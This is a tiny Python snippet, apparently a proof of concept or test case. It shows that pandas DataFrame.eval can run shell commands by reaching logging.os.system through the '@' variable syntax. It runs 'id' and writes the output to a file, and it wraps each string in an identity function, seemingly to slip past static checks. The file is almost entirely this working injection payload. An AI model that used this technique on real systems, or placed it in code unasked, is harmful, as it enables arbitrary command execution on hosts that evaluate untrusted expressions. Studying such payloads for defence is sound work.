def my_s(x):
    return x
import pandas as pd
import logging
pd.DataFrame({my_s('a'): [1]}).eval(my_s("b = @logging.os.system('id>pf')"))
